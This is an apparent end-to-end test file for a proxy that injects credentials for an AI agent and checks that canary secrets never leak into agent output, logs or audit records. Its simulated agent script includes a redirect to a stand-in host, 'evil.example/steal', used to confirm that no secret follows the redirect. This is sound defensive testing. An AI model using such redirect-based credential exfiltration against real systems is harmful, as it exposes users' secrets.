"""Credentials the agent never holds: injected per binding, replaced in echoes, absent from every log and file."""

from __future__ import annotations

import base64
import json
import os
import sys
import time
from urllib.parse import quote, quote_plus

import pytest

from tests.fake_aws import AWS_HOSTS, REAL
from tests.fake_oauth import CLIENT_ID, CLIENT_SECRET, FakeOAuth

pytestmark = pytest.mark.e2e

SLACK_SECRET = "xoxb-CANARY-slack-4f1e9c"
GITHUB_SECRET = "ghp_CANARY+github/77="
GMAIL_SECRET = "CANARY-gmail-pass"
QUERY_SECRET = "CANARY-query-key-5"

CREDENTIALS = """credentials:
  slack-bot:
    secret: slack-bot
    hosts: [slack.com]
    inject: {header: Authorization, value: "Bearer {secret}"}
    env: SLACK_TOKEN
  github:
    secret: {env: GOEX_TEST_GITHUB_SECRET}
    hosts: [api.github.com]
    methods: [GET]
    inject: {header: Authorization, value: "token {secret}"}
    env: [GITHUB_TOKEN]
  gmail:
    secret: gmail-pass
    hosts: [gmail.googleapis.com]
    inject: {basic: {username: me}}
  maps:
    secret: maps-key
    hosts: [example.com]
    inject: {query: key}
  unset:
    secret: never-stored
    hosts: ["*.slack.com"]
    inject: {header: X-Api-Key, value: "{secret}"}
  api:
    secret: api-oauth
    hosts: [api.oauth.example]
    inject:
      oauth2: {provider: generic, authorize_url: "https://oauth.example/authorize",
               token_url: "https://oauth.example/token", client_id: CLIENT_ID,
               client_secret: {env: GOEX_TEST_CLIENT_SECRET}, refresh_margin: 1s}
    env: [API_TOKEN]
  aws:
    secret: aws-keys
    hosts: ["**.amazonaws.com"]
    inject: {aws_sigv4: {}}
    env: [AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY, AWS_SESSION_TOKEN]
""".replace("CLIENT_ID", CLIENT_ID)

POLICY = {"all": """
    version: 1
    rules:
      - name: everything the test uses
        allow: {hosts: [slack.com, api.github.com, gmail.googleapis.com, example.com, files.slack.com, evil.example,
                        api.oauth.example, goex-test-bucket.s3.amazonaws.com]}
"""}

AGENT = """
import json, os, sys, requests
out = {}
def call(name, method, url, **kw):
    r = requests.request(method, url, allow_redirects=True, timeout=20, **kw)
    out[name] = {"status": r.status_code, "headers": dict(r.headers), "body": r.text}
call("slack", "POST", "https://slack.com/api/chat.postMessage",
     headers={"Authorization": "Bearer " + os.environ["SLACK_TOKEN"]}, json={"channel": "C0BOTS", "text": "hi"})
call("slack-echo", "GET", "https://slack.com/echo")
call("github", "GET", "https://api.github.com/echo", headers={"Authorization": "token " + os.environ["GITHUB_TOKEN"]})
call("gmail", "GET", "https://gmail.googleapis.com/echo")
call("maps", "GET", "https://example.com/echo?key=agent-sent-this&q=1")
call("redirect", "GET", "https://slack.com/redirect?to=https://evil.example/steal")
call("unset", "GET", "https://files.slack.com/x")
call("malformed", "GET", "https://slack.com/malformed")
call("github-post", "POST", "https://api.github.com/echo")
call("oauth-echo", "GET", "https://api.oauth.example/echo", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
import time; time.sleep(1.5)  # the access token expires: the proxy refreshes it
call("oauth-after-expiry", "GET", "https://api.oauth.example/echo")
import boto3
s3 = boto3.client("s3", region_name="us-east-1")
s3.create_bucket(Bucket="goex-test-bucket")
s3.put_object(Bucket="goex-test-bucket", Key="canary.txt", Body=b"hello")
out["s3"] = s3.get_object(Bucket="goex-test-bucket", Key="canary.txt")["Body"].read().decode()
try:
    s3.get_object(Bucket="goex-test-bucket", Key="missing")
except Exception as exc:
    out["s3-missing"] = str(exc)
sys.stdout.write(json.dumps(out))
"""


def forms(secret: str, username: str = "") -> list[str]:
    raw = secret.encode()
    spellings = [secret, quote(secret, safe=""), quote_plus(secret), raw.hex(), base64.b64encode(raw).decode(),
                 base64.urlsafe_b64encode(raw).decode().rstrip("=")]
    if username:
        spellings.append(base64.b64encode(f"{username}:{secret}".encode()).decode())
    return spellings


ALL_FORMS = (forms(SLACK_SECRET) + forms(GITHUB_SECRET) + forms(GMAIL_SECRET, "me") + forms(QUERY_SECRET))


@pytest.fixture
def proxy(make_proxy, upstream, oauth_server, aws_relay, monkeypatch):
    return with_secrets(make_proxy, oauth_server, aws_relay, monkeypatch).start()


def with_secrets(make_proxy, oauth_server, aws_relay, monkeypatch):
    """A goex-proxy (not started) with every credential above and its secret stored, routed to the fakes."""
    monkeypatch.setenv("GOEX_TEST_GITHUB_SECRET", GITHUB_SECRET)
    routes = {**{h: oauth_server.url for h in FakeOAuth.HOSTS}, **{h: aws_relay.url for h in AWS_HOSTS}}
    p = make_proxy(POLICY, start=False, routes=routes, extra_config=CREDENTIALS)
    p.env["GOEX_TEST_GITHUB_SECRET"] = GITHUB_SECRET
    p.env["GOEX_TEST_CLIENT_SECRET"] = CLIENT_SECRET
    oauth_server.state.lifetime = 1.5
    tokens = oauth_server.state.new_tokens()  # as `goex-proxy authorize` would have stored them
    stored = json.dumps({"access_token": tokens["access_token"], "refresh_token": tokens["refresh_token"],
                         "expires_at": time.time() + 1.5})
    for name, value in (("slack-bot", SLACK_SECRET), ("gmail-pass", GMAIL_SECRET), ("maps-key", QUERY_SECRET),
                        ("api-oauth", stored), ("aws-keys", json.dumps(REAL))):
        r = p.run_cli("secrets", "set", "--config", str(p.config), name, input=value.encode())
        assert r.returncode == 0, r.stderr
        assert value not in r.stdout + r.stderr
    return p


def test_canary_never_leaks(proxy, upstream, oauth_server, aws_relay):
    """After every injection kind, an echo and the error paths: the upstream got the secrets, nobody else did."""
    r = proxy.exec("mailbot", sys.executable, "-c", AGENT)
    assert r.returncode == 0, r.stderr
    out = json.loads(r.stdout)

    # The upstream saw the real secrets, injected in place of the placeholders, only where they are bound.
    seen = {(s.host, s.path.split("?")[0], s.method): s for s in upstream.state.seen}
    assert seen[("slack.com", "/api/chat.postMessage", "POST")].headers["Authorization"] == f"Bearer {SLACK_SECRET}"
    assert seen[("api.github.com", "/echo", "GET")].headers["Authorization"] == f"token {GITHUB_SECRET}"
    basic = base64.b64encode(f"me:{GMAIL_SECRET}".encode()).decode()
    assert seen[("gmail.googleapis.com", "/echo", "GET")].headers["Authorization"] == f"Basic {basic}"
    maps = seen[("example.com", "/echo", "GET")]
    assert f"key={QUERY_SECRET}" in maps.path and "agent-sent-this" not in maps.path and "q=1" in maps.path
    # Not injected anywhere else: the redirect target, a method outside the binding.
    evil = seen[("evil.example", "/steal", "GET")]
    assert "Authorization" not in evil.headers
    assert "Authorization" not in seen[("api.github.com", "/echo", "POST")].headers

    # A bound host whose secret is missing is denied, not forwarded bare.
    assert out["unset"]["status"] == 403 and "cannot be injected" in out["unset"]["body"]
    assert ("files.slack.com", "/x", "GET") not in seen

    # mitmproxy's own error page for a broken upstream quotes the bytes it got (escaped, which could hide a
    # secret's spelling): they are not shown at all.
    assert out["malformed"]["status"] == 502 and "(bytes not shown)" in out["malformed"]["body"]
    assert "Cannot parse HTTP response" in out["malformed"]["body"]

    # Echoes are replaced by the placeholder before the agent sees them.
    assert "goex-placeholder-slack-bot" in out["slack-echo"]["body"]
    assert out["gmail"]["headers"]["X-Echo-Authorization"].startswith("Basic goex-placeholder-gmail")
    assert "goex-placeholder-maps" in out["maps"]["body"]
    for name in ("oauth-echo", "oauth-after-expiry"):
        assert out[name]["status"] == 200 and json.loads(out[name]["body"]) == {"authorization": "Bearer goex-placeholder-api"}
    assert oauth_server.state.grants and set(oauth_server.state.grants) == {"refresh_token"}
    assert out["s3"] == "hello" and "NoSuchKey" in out["s3-missing"]
    assert aws_relay.verdicts and all(v.valid and v.key_id == REAL["access_key_id"] for v in aws_relay.verdicts)

    agent_bytes = r.stdout + r.stderr
    audit_bytes = (proxy.home / "audit.db").read_bytes()
    for name in ("audit.db-wal",):
        if (proxy.home / name).exists():
            audit_bytes += (proxy.home / name).read_bytes()
    shown = "".join(proxy.cli("show", row["id"]).stdout for row in proxy.rows())
    logged = proxy.cli("log", "--json", "--limit", "100").stdout + proxy.log_text()
    listing = proxy.cli("secrets", "list").stdout + proxy.cli("secrets", "list", "--json").stdout
    for form in ALL_FORMS + [f for secret in oauth_server.state.issued + [CLIENT_SECRET, *REAL.values()]
                             for f in forms(secret)]:
        assert form not in agent_bytes, f"agent saw {form!r}"
        assert form.encode() not in audit_bytes, f"audit database holds {form!r}"
        assert form not in shown and form not in logged and form not in listing, f"output shows {form!r}"
    assert any(row["credential"] == "slack-bot" for row in proxy.rows())


def test_secrets_list_shows_bindings_and_use(proxy):
    """`secrets list` names each credential, its hosts, whether its secret is stored, and when it was last used."""
    rows = [json.loads(line) for line in proxy.cli("secrets", "list", "--json").stdout.splitlines()]
    by_name = {r["credential"]: r for r in rows}
    assert by_name["slack-bot"]["stored"] is True and by_name["slack-bot"]["hosts"] == "slack.com"
    assert by_name["unset"]["stored"] is False
    assert by_name["github"]["secret"] == "env:GOEX_TEST_GITHUB_SECRET"


def test_exec_gives_placeholders_not_secrets(proxy):
    """The agent gets placeholders, and inherits neither {env:} secrets nor the vault key from the shell."""
    code = "import os, json; print(json.dumps(dict(os.environ)))"
    proxy.env["GOEX_PROXY_KEY"] = (proxy.home / "vault.key").read_text().strip()
    env = json.loads(proxy.exec("mailbot", sys.executable, "-c", code).stdout)
    assert env["SLACK_TOKEN"] == "goex-placeholder-slack-bot" and env["GITHUB_TOKEN"] == "goex-placeholder-github"
    assert "GOEX_TEST_GITHUB_SECRET" not in env and "GOEX_PROXY_KEY" not in env
    assert not any(SLACK_SECRET in v or GITHUB_SECRET in v for v in env.values())


def test_secret_is_never_sent_over_plain_http(proxy, upstream):
    """A request to a bound host over plain HTTP is refused instead of carrying the secret in clear."""
    import requests

    r = requests.get("http://slack.com/echo", proxies={"http": proxy.proxy_url()}, timeout=10)
    assert r.status_code == 403 and "only sent over https" in r.json()["reason"]
    assert upstream.state.seen == []


def test_wrong_vault_key_refuses_to_start(proxy):
    """With a wrong GOEX_PROXY_KEY, `run` exits 2 with a message about the key, and prints no secret."""
    proxy.stop()
    proxy.env["GOEX_PROXY_KEY"] = base64.urlsafe_b64encode(os.urandom(32)).decode()
    r = proxy.cli("run")
    assert r.returncode == 2 and "the key is wrong" in r.stderr
